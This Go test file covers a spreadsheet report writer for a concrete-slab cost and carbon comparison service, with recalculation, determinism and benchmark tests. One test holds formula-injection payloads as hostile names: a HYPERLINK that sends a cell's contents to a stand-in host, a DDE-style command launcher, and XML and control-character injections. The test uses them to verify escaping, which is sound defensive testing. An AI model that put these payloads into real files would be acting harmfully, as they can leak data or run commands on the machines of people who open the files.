package report_test

import (
	"archive/zip"
	"bytes"
	"context"
	"fmt"
	"io"
	"math"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/go-json-experiment/json"
	"github.com/xuri/excelize/v2"

	"slabledger/inventory"
	"slabledger/inventory/sqlite"
	"slabledger/inventory/storetest"
	"slabledger/service"
	"slabledger/service/report"
)

// newService is a service with the demo region, of which a test may change a row.
func newService(t testing.TB, change ...string) *service.Service {
	t.Helper()
	store, err := sqlite.Open(t.Context(), filepath.Join(t.TempDir(), "test.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = store.Close() })
	svc := service.New(store)
	slug, meta, err := inventory.ReadMeta(testdata(t, "demo/inventory.json"))
	if err != nil {
		t.Fatal(err)
	}
	items := string(testdata(t, "demo/items.csv"))
	for i := 0; i+1 < len(change); i += 2 {
		if strings.Count(items, change[i]) != 1 {
			t.Fatalf("%q is not once in the demo", change[i])
		}
		items = strings.Replace(items, change[i], change[i+1], 1)
	}
	if _, _, err := svc.Import(t.Context(), slug, meta, strings.NewReader(items), "test"); err != nil {
		t.Fatal(err)
	}
	return svc
}

func testdata(t testing.TB, name string) []byte {
	t.Helper()
	text, err := os.ReadFile("../../testdata/" + name)
	if err != nil {
		t.Fatal(err)
	}
	return text
}

func compared(t testing.TB, svc *service.Service, request []byte) *service.ComparisonResponse {
	t.Helper()
	r, err := svc.Compare(context.Background(), request)
	if err != nil {
		for _, f := range service.Faults(err) {
			t.Log(f.Pointer, f.Code, f.Detail)
		}
		t.Fatal(err)
	}
	return r
}

func written(t testing.TB, r *service.ComparisonResponse) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := report.Workbook(&b, r); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// requests are the comparisons that are recalculated.
func requests(t testing.TB) map[string][]byte {
	demo := testdata(t, "demo/comparison.json")
	with := func(request []byte, pairs ...string) []byte {
		text := string(request)
		for i := 0; i+1 < len(pairs); i += 2 {
			if !strings.Contains(text, pairs[i]) {
				t.Fatalf("no %s", pairs[i])
			}
			text = strings.Replace(text, pairs[i], pairs[i+1], 1)
		}
		return []byte(text)
	}
	rate := `"economics": { "real_discount_rate": "3 %" }`
	year := `{ "item": "surface-grinding", "years": [25], "share": "100 %", "life_years": 15 }`
	users := `{ "item": "surface-grinding", "years": [25], "share": "100 %", "life_years": 20, "user_cost": "1.20 EUR/m2" }`
	return map[string][]byte{
		"demo":  demo,
		"sized": testdata(t, "scenarios/sized.json"),
		"schedule": with(demo, rate, `"economics": {
			"discount_rate_schedule": [{"from_year": 0, "rate": "3.5 %"}, {"from_year": 21, "rate": "3 %"}, {"from_year": 31, "rate": "2.5 %"}],
			"real_escalation": [{"category": "operation", "rate": "1 %"}, {"category": "fuel", "rate": "1.5 %"}, {"item": "joint-resealing", "rate": "0.7 %"}],
			"include_user_cost": true, "carbon_price": {"amount": "80 EUR/t", "real_growth": "2 %", "in_cost": true}}`, year, users),
		"nominal": with(demo, rate, `"economics": {"nominal_discount_rate": "5.06 %", "inflation": "2 %", "nominal_escalation": [{"category": "operation", "rate": "3.02 %"}, {"category": "plant", "rate": "3.02 %"}],
			"include_user_cost": false, "carbon_price": {"by_year": [{"from_year": 0, "amount": "80 EUR/t"}, {"from_year": 20, "amount": "150 EUR/t"}]}}`, year, users),
		"carbon alone": with(demo, rate+",", ""),
		"lives": with(demo, `"analysis_period_years": 40,`, `"analysis_period_years": 40, "unequal_lives": "annual_equivalent",`, `"thickness": "240 mm",`, `"thickness": "240 mm", "service_life_years": 40,`,
			`"slab": { "thickness": "215 mm" }`, `"slab": { "thickness": "215 mm", "service_life_years": 30 }, "residual": { "life_years": 30 }`, `"slab": { "thickness": "205 mm" }`, `"slab": { "thickness": "205 mm", "service_life_years": 25 }, "residual": { "life_years": 25 }`,
			`{ "method": "remaining_life", "life_years": 50 }`, `{ "method": "straight_line", "life_years": 40, "final_value": "2.5 EUR/m2" }`),
		"renewed": with(demo, `"analysis_period_years": 40,`, `"analysis_period_years": 40, "unequal_lives": "common_period",`, `"thickness": "240 mm",`, `"thickness": "240 mm", "service_life_years": 30,`,
			`{ "method": "remaining_life", "life_years": 50 }`, `{ "method": "straight_line", "life_years": 30, "final_value": "2.5 EUR/m2" }`),
	}
}

// office is LibreOffice Calc. Without it a test is skipped, and fails where CI=true. It is
// a process of its own, in which the race detector sees nothing.
func office(t testing.TB) string {
	t.Helper()
	if storetest.Raced() {
		t.Skip("recalculated without the race detector")
	}
	path, err := exec.LookPath("soffice")
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("soffice is missing: workbooks are recalculated in CI (Debian: apt-get install libreoffice-calc)")
		}
		t.Skip("no soffice on the path, so no workbook is recalculated (Debian: apt-get install libreoffice-calc)")
	}
	return path
}

// recalculated opens workbooks in LibreOffice, which computes them since they have no
// values, and reads what it saves.
func recalculated(t testing.TB, books map[string][]byte) map[string]*excelize.File {
	t.Helper()
	path, folder := office(t), t.TempDir()
	args := []string{"-env:UserInstallation=file://" + folder + "/profile", "--headless", "--norestore", "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", folder + "/out"}
	for name, book := range books {
		in := filepath.Join(folder, name+".xlsx")
		if err := os.WriteFile(in, book, 0o600); err != nil {
			t.Fatal(err)
		}
		args = append(args, in)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 3*time.Minute)
	defer cancel()
	if out, err := exec.CommandContext(ctx, path, args...).CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v\n%s", err, out)
	}
	open := map[string]*excelize.File{}
	for name := range books {
		f, err := excelize.OpenFile(filepath.Join(folder, "out", name+".xlsx"))
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = f.Close() })
		open[name] = f
	}
	return open
}

// comparedCell is a row of the check sheet.
type comparedCell struct {
	alternative, name, unit, printed, result string
	value, again, bound                      float64
}

func checks(t testing.TB, f *excelize.File) (list []comparedCell) {
	t.Helper()
	rows, err := f.GetRows("Check", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	number := func(text string) float64 {
		n, err := strconv.ParseFloat(text, 64)
		if err != nil {
			return math.NaN() // which no bound holds
		}
		return n
	}
	for _, row := range rows[1:] {
		list = append(list, comparedCell{row[1], row[2], row[3], row[4], row[9], number(row[5]), number(row[6]), number(row[8])})
	}
	return list
}

// totals finds every total that an answer prints of an alternative: whatever has six
// decimals and is no line.
func totals(of any) (list []string) {
	var walk func(v reflect.Value)
	walk = func(v reflect.Value) {
		switch v.Kind() {
		case reflect.Pointer:
			if !v.IsNil() {
				walk(v.Elem())
			}
		case reflect.Slice:
			for i := range v.Len() {
				walk(v.Index(i))
			}
		case reflect.Struct:
			if fixed, ok := v.Interface().(service.Fixed); ok {
				text, _ := json.Marshal(fixed)
				list = append(list, strings.Trim(string(text), `"`))
				return
			}
			for i := range v.NumField() {
				switch field := v.Type().Field(i); field.Name {
				case "Lines", "BySourceKind", "Carbonation": // lines, shares of kinds of source, and a way to a line
				default:
					if field.IsExported() {
						walk(v.Field(i))
					}
				}
			}
		}
	}
	walk(reflect.ValueOf(of))
	return list
}

// Every total of the service comes out of the workbook again, computed by another
// program from prices, factors, rates and amounts alone. The bound of a figure is derived
// (see margin): nothing is fitted. Where no line of a total ends in a half it is the
// service's number to the last bit that a sum of binary numbers keeps.
func TestEveryTotalComesOutOfTheWorkbookAgain(t *testing.T) {
	svc, answers, books := newService(t), map[string]*service.ComparisonResponse{}, map[string][]byte{}
	for name, request := range requests(t) {
		answers[name] = compared(t, svc, request)
		books[name] = written(t, answers[name])
	}
	for name, f := range recalculated(t, books) {
		r, exact, halves, worst := answers[name], 0, 0, 0.0
		seen := map[string]map[string]bool{}
		for _, c := range checks(t, f) {
			off := math.Abs(c.again - c.value)
			if !(off <= c.bound) || c.result != "agrees" {
				t.Errorf("%s: %s, %s: printed %s, recalculated %v, off by %g, bound %g, %s", name, c.alternative, c.name, c.printed, c.again, off, c.bound, c.result)
			}
			switch {
			case c.bound > 1e-7:
				halves++
			default:
				exact, worst = exact+1, max(worst, off/max(1, math.Abs(c.value)))
			}
			if seen[c.alternative] == nil {
				seen[c.alternative] = map[string]bool{}
			}
			seen[c.alternative][c.printed] = true
		}
		for i, a := range r.Alternatives {
			want := totals(struct {
				Concrete service.Concrete
				Carbon   service.Carbon
				Cost     *service.Cost
				Delta    service.Delta
			}{a.Concrete, a.Carbon, a.Cost, r.Comparison.Deltas[i]})
			if len(want) < 20 {
				t.Errorf("%s: only %d totals", name, len(want))
			}
			for _, total := range want {
				if !seen[a.Name][total] {
					t.Errorf("%s: %s: no figure of the check sheet is %s", name, a.Name, total)
				}
			}
		}
		if differ := cell(t, f, "Summary", rowOf(t, f, "Summary", "Figures that differ from the service"), "B"); differ != "0" {
			t.Errorf("%s: the first sheet says that %q figures differ", name, differ)
		}
		t.Logf("%s: %d figures without a half, off by at most %.2g of themselves; %d with one, within their bound", name, exact, worst, halves)
	}
}

func cell(t testing.TB, f *excelize.File, sheet string, row int, column string) string {
	t.Helper()
	text, err := f.GetCellValue(sheet, fmt.Sprint(column, row), excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	return text
}

// rowOf finds the first row that has all texts.
func rowOf(t testing.TB, f *excelize.File, sheet string, texts ...string) int {
	t.Helper()
	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range rows {
		if !slices.ContainsFunc(texts, func(text string) bool { return !slices.Contains(row, text) }) {
			return i + 1
		}
	}
	t.Fatalf("no row of %s has %q", sheet, texts)
	return 0
}

// An auditor changes a rate, a price or a factor, and the totals are those of the service
// for the changed request, or the changed inventory.
func TestChangedInputsMoveTheTotalsAsTheServiceDoes(t *testing.T) {
	all := requests(t)
	demo := written(t, compared(t, newService(t), all["demo"]))
	schedule := written(t, compared(t, newService(t), all["schedule"]))
	type change struct {
		name, sheet, column string
		row                 []string
		value               any
		book                []byte
		svc                 *service.Service
		request             []byte
	}
	rewritten := func(from, to string) []byte {
		request := all["schedule"]
		if !bytes.Contains(request, []byte(from)) {
			t.Fatal(from)
		}
		return bytes.Replace(request, []byte(from), []byte(to), 1)
	}
	list := []change{
		{"rate", "Rates", "C", []string{"Real discount rate"}, 0.045, demo, newService(t), bytes.Replace(all["demo"], []byte(`"3 %"`), []byte(`"4.5 %"`), 1)},
		{"area", "Rates", "C", []string{"Area of slab"}, 8000, demo, newService(t), bytes.Replace(all["demo"], []byte(`"7300 m2"`), []byte(`"8000 m2"`), 1)},
		{"price", "Prices and factors", "D", []string{"cement-cem-i", "price"}, 0.2, demo, newService(t, ",,,0.124,EUR,", ",,,0.2,EUR,"), all["demo"]},
		{"factor", "Prices and factors", "D", []string{"cement-cem-i", "emission factor"}, 0.61, demo, newService(t, ",0.842,", ",0.61,"), all["demo"]},
		{"step", "Rates", "C", []string{"Real discount rate", "21"}, 0.01, schedule, newService(t), rewritten(`{"from_year": 21, "rate": "3 %"}`, `{"from_year": 21, "rate": "1 %"}`)},
		{"escalation", "Rates", "C", []string{"Real escalation of the category operation"}, 0.025, schedule, newService(t), rewritten(`{"category": "operation", "rate": "1 %"}`, `{"category": "operation", "rate": "2.5 %"}`)},
		{"users", "Rates", "C", []string{"Net present value counts the cost to road users"}, 0, schedule, newService(t), rewritten(`"include_user_cost": true`, `"include_user_cost": false`)},
		{"carbon", "Rates", "C", []string{"Price of carbon"}, 0.13, schedule, newService(t), rewritten("80 EUR/t", "130 EUR/t")},
		{"in cost", "Rates", "C", []string{"Net present value counts the price of carbon"}, 0, schedule, newService(t), rewritten(`"in_cost": true`, `"in_cost": false`)},
	}
	books := map[string][]byte{}
	for _, c := range list {
		f, err := excelize.OpenReader(bytes.NewReader(c.book))
		if err != nil {
			t.Fatal(err)
		}
		if err := f.SetCellValue(c.sheet, fmt.Sprint(c.column, rowOf(t, f, c.sheet, c.row...)), c.value); err != nil {
			t.Fatal(err)
		}
		var out bytes.Buffer
		if err := f.Write(&out); err != nil {
			t.Fatal(err)
		}
		books[c.name] = out.Bytes()
	}
	for _, c := range list {
		want := written(t, compared(t, c.svc, c.request))
		books["want "+c.name] = want
	}
	found := recalculated(t, books)
	for _, c := range list {
		got, moved, held := map[[3]string]comparedCell{}, 0, 0
		for _, g := range checks(t, found[c.name]) {
			got[[3]string{g.alternative, g.name, g.unit}] = g
		}
		for _, w := range checks(t, found["want "+c.name]) {
			g, there := got[[3]string{w.alternative, w.name, w.unit}]
			if !there && strings.HasPrefix(w.name, "Extra net present value") {
				continue // of which there was none to state before
			}
			if held++; !(math.Abs(g.again-w.value) <= w.bound) {
				t.Errorf("%s: %s, %s: recalculated %v, the service says %s", c.name, w.alternative, w.name, g.again, w.printed)
			}
			if g.again != g.value {
				moved++
			}
		}
		t.Logf("%s moves %d of %d figures, to those of the service", c.name, moved, held)
		if said := cell(t, found[c.name], "Summary", rowOf(t, found[c.name], "Summary", "Figures that differ from the service"), "B"); said == "0" || said == "" {
			t.Errorf("%s: the first sheet says that %q figures differ from the answer", c.name, said)
		}
		if moved < 9 {
			t.Errorf("%s moves %d figures only", c.name, moved)
		}
	}
}

// A name, of whatever make, is a text: it never is a formula, moves no cursor and ends no
// cell. What begins like a formula has an apostrophe, as in the files of inventories.
func TestHostileNamesStayTexts(t *testing.T) {
	svc := newService(t)
	hostile := map[string]string{
		`=HYPERLINK("http://x.invalid/?"&A1,"total")`: `'=HYPERLINK("http://x.invalid/?"&A1,"total")`,
		"+1+cmd|' /C calc'!A0":                        "'+1+cmd|' /C calc'!A0",
		"-2+3":                                        "'-2+3",
		"@SUM(A1:A9)":                                 "'@SUM(A1:A9)",
		"\t=1+1":                                      "\uFFFD=1+1",
		"a\x00b\x1b[2J\u202ec":                        "a\uFFFDb\uFFFD[2J\uFFFDc",
		"</t></is></c><c><f>1+1</f></c>":              "</t></is></c><c><f>1+1</f></c>",
		"_x0041_ A*?~":                                "_x0041_ A*?~",
		"line\nbreak\u2028\ufffe":                     "line\uFFFDbreak\uFFFD\uFFFD",
	}
	var request map[string]any
	if err := json.Unmarshal(testdata(t, "demo/comparison.json"), &request); err != nil {
		t.Fatal(err)
	}
	list := request["alternatives"].([]any)
	var names []string
	for name := range hostile {
		names = append(names, name)
		list = append(list, map[string]any{"name": name, "like": "fibre"})
	}
	request["alternatives"] = list
	text, err := json.Marshal(request)
	if err != nil {
		t.Fatal(err)
	}
	book := written(t, compared(t, svc, text))
	f, err := excelize.OpenReader(bytes.NewReader(book))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	opened := map[string]*excelize.File{"as written": f}
	if _, err := exec.LookPath("soffice"); !storetest.Raced() && (err == nil || os.Getenv("CI") == "true") {
		opened["by LibreOffice"] = recalculated(t, map[string][]byte{"hostile": book})["hostile"]
	}
	for by, f := range opened {
		for i, name := range names {
			for _, sheet := range f.GetSheetList() {
				if sheet == "Summary" || sheet == "Rates" || sheet == "Prices and factors" || sheet == "Discount factors" || sheet == "Check" {
					continue
				}
				rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
				if err != nil {
					t.Fatal(err)
				}
				n := slices.IndexFunc(rows, func(row []string) bool { return len(row) > 1 && row[0] == fmt.Sprint(4+i) }) + 1
				if n == 0 {
					t.Fatalf("%s: %s has no row of alternative %d", by, sheet, 4+i)
				}
				formula, err := f.GetCellFormula(sheet, fmt.Sprint("B", n))
				if got := cell(t, f, sheet, n, "B"); got != hostile[name] || formula != "" || err != nil {
					t.Errorf("%s: %s: %q is %q, formula %q, %v", by, sheet, name, got, formula, err)
				}
			}
		}
	}
}

// The same answer gives the same bytes; nothing of a clock is in them; and no formula has
// a value that a program could show in place of computing.
func TestWorkbookIsTheSameWheneverItIsWritten(t *testing.T) {
	r := compared(t, newService(t), testdata(t, "demo/comparison.json"))
	book := written(t, r)
	for range 5 {
		if !bytes.Equal(book, written(t, r)) {
			t.Fatal("the same answer, other bytes")
		}
	}
	z, err := zip.NewReader(bytes.NewReader(book), int64(len(book)))
	if err != nil {
		t.Fatal(err)
	}
	formulas := 0
	for _, part := range z.File {
		if part.Modified.Year() >= 1980 { // before it is how a zip says that it has none
			t.Errorf("%s has a time, %s", part.Name, part.Modified)
		}
		in, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(in)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(string(text), "</f><v>") {
			t.Errorf("%s has a formula with a value", part.Name)
		}
		formulas += strings.Count(string(text), "<f>")
	}
	if formulas < 1000 {
		t.Errorf("only %d formulas", formulas)
	}
}

// many is the demo with so many alternatives, each thicker than the one before.
func manyAlternatives(t testing.TB, alternatives int) []byte {
	t.Helper()
	var request map[string]any
	if err := json.Unmarshal(testdata(t, "demo/comparison.json"), &request); err != nil {
		t.Fatal(err)
	}
	list := request["alternatives"].([]any)
	for i := len(list); i < alternatives; i++ {
		list = append(list, map[string]any{"name": fmt.Sprint("thickness ", i), "like": "fibre, staged", "slab": map[string]any{"thickness": fmt.Sprint(200+i/2, " mm")}})
	}
	request["alternatives"] = list
	text, err := json.Marshal(request, json.Deterministic(true))
	if err != nil {
		t.Fatal(err)
	}
	return text
}

// The largest comparison is written in bounded memory; a benchmark, as no test asserts a
// time.
func BenchmarkWorkbookOf200Alternatives(b *testing.B) {
	r := compared(b, newService(b), manyAlternatives(b, 200))
	b.ReportAllocs()
	for b.Loop() {
		var out bytes.Buffer
		if err := report.Workbook(&out, r); err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(float64(out.Len()), "bytes/file")
	}
}
